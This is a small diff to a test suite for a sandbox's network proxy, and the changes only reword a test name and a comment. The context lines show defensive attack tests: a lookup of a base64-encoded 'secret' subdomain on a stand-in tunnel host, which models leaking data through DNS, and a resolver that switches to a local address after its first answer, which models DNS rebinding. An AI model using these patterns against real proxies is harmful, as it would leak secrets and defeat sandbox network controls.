@@ -181,7 +181,7 @@ describe('attacks on the proxy of a sandbox', () => {
 		expect(victims).toBe(0);
 	});
 
-	it('resolves no name before somebody lets it through', async () => {
+	it('resolves no name before somebody allows it', async () => {
 		const proxy = await attacked();
 		await say(proxy.port, to('c2VjcmV0.tunnel.example:443'));
 		await say(proxy.port, named('c2VjcmV0.tunnel.example', 443));
@@ -192,7 +192,7 @@ describe('attacks on the proxy of a sandbox', () => {
 		let asked = 0;
 		const proxy = await startProxy({
 			rules: [`Fetch(*.wild.example:${port})`],
-			// The first answer is fit to be let through, each later one leads here.
+			// The first answer is fit to be allowed, each later one leads here.
 			parts: {
 				resolve: async () => (asked++ === 0 ? ['192.0.2.1'] : [SERVER]),
 				isLocal: (address) => address === SERVER,
